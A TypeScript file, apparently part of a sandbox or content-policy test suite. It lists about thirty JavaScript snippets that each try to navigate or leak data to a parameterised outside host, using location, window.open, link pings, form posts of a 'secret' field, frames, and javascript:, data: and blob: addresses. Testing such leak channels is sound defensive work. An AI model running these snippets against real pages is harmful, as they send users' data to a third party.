import { type Attempt, markup } from './attempt.ts'

const direct = (title: string, code: (host: string) => string): Attempt => ({ title, code: ({ host }) => code(host) })

/** Going somewhere else, alone or with a helper. */
export const navigations: readonly Attempt[] = [
  direct('location =', (host) => `location = 'http://${host}/location'`),
  direct('location.assign', (host) => `location.assign('http://${host}/assign')`),
  direct('location.replace', (host) => `location.replace('http://${host}/replace')`),
  direct('location.href', (host) => `location.href = 'http://${host}/href'`),
  direct('location.host', (host) => `location.host = '${host}'`),
  { title: "the page's own server", code: ({ page, name }) => `location = '${page}/api/leak?${name}'` },
  { title: 'a reload with a query', code: ({ name }) => `location.search = '?${name}'` },
  direct('window.open', (host) => `window.open('http://${host}/open')`),
  direct('window.open onto itself', (host) => `window.open('http://${host}/openself', '_self')`),
  direct('the open of the document', (host) => `document.open('http://${host}/docopen', '_self', '')`),
  direct('the Navigation API', (host) => `navigation.navigate('http://${host}/navigate')`),
  direct(
    'a meta refresh',
    (host) =>
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=http://${host}/refresh">'); await new Promise((r) => setTimeout(r, 300))`,
  ),
  direct(
    'a clicked link',
    (host) => `const a = document.createElement('a'); a.href = 'http://${host}/click'; document.body.append(a); a.click()`,
  ),
  direct(
    'a clicked link with a ping',
    (host) =>
      `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://${host}/ping'; document.body.append(a); a.click()`,
  ),
  direct(
    'a download',
    (host) =>
      `const a = document.createElement('a'); a.href = 'http://${host}/download'; a.download = 'x'; document.body.append(a); a.click()`,
  ),
  direct(
    'a link to a new window',
    (host) =>
      `const a = document.createElement('a'); a.href = 'http://${host}/blank'; a.target = '_blank'; document.body.append(a); a.click()`,
  ),
  direct(
    'a link to the top window',
    (host) =>
      `const a = document.createElement('a'); a.href = 'http://${host}/top'; a.target = '_top'; document.body.append(a); a.click()`,
  ),
  direct(
    'an SVG link',
    (host) =>
      `${markup(`<svg><a href="http://${host}/svga"><text y="9">x</text></a></svg>`)}; document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  ),
  direct(
    'an image map',
    (host) =>
      `${markup(`<map name="m"><area href="http://${host}/area" shape="default"></map>`)}; document.querySelector('area').click()`,
  ),
  direct(
    'a submitted form',
    (host) =>
      `${markup(`<form action="http://${host}/form"><input name="a" value="secret"></form>`)}; document.forms[0].submit()`,
  ),
  direct(
    'a form that asks to be submitted',
    (host) =>
      `${markup(`<form action="http://${host}/form2" method="post"><button name="a" value="x"></button></form>`)}; document.forms[0].requestSubmit()`,
  ),
  direct(
    'a form to a new window',
    (host) => `${markup(`<form action="http://${host}/form3" target="_blank"></form>`)}; document.forms[0].submit()`,
  ),
  direct(
    'a form inside a frame',
    (host) =>
      `${markup(`<iframe name="f"></iframe><form action="http://${host}/form4" target="f"></form>`)}; document.forms[0].submit()`,
  ),
  direct(
    'a child frame that navigates',
    (host) =>
      `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'http://${host}/child'`,
  ),
  direct(
    'a child frame by name',
    (host) =>
      `${markup('<iframe name="n"></iframe>')}; const a = document.createElement('a'); a.href = 'http://${host}/named'; a.target = 'n'; document.body.append(a); a.click()`,
  ),
  direct('the top window', (host) => `top.location = 'http://${host}/toplocation'`),
  direct('the top window, replaced', (host) => `top.location.replace('http://${host}/topreplace')`),
  direct('a javascript address', (host) => `location = "javascript:new Image().src='http://${host}/js'"`),
  direct(
    'a data address',
    (host) => `location = "data:text/html,<img src=http://${host}/data>"; await new Promise((r) => setTimeout(r, 300))`,
  ),
  direct(
    'a blob address',
    (host) =>
      `location = URL.createObjectURL(new Blob(["<img src='http://${host}/blob'>"], { type: 'text/html' })); await new Promise((r) => setTimeout(r, 300))`,
  ),
  { title: 'a lookup of a name in the address', code: ({ name }) => `location = 'http://${name}/'` },
]
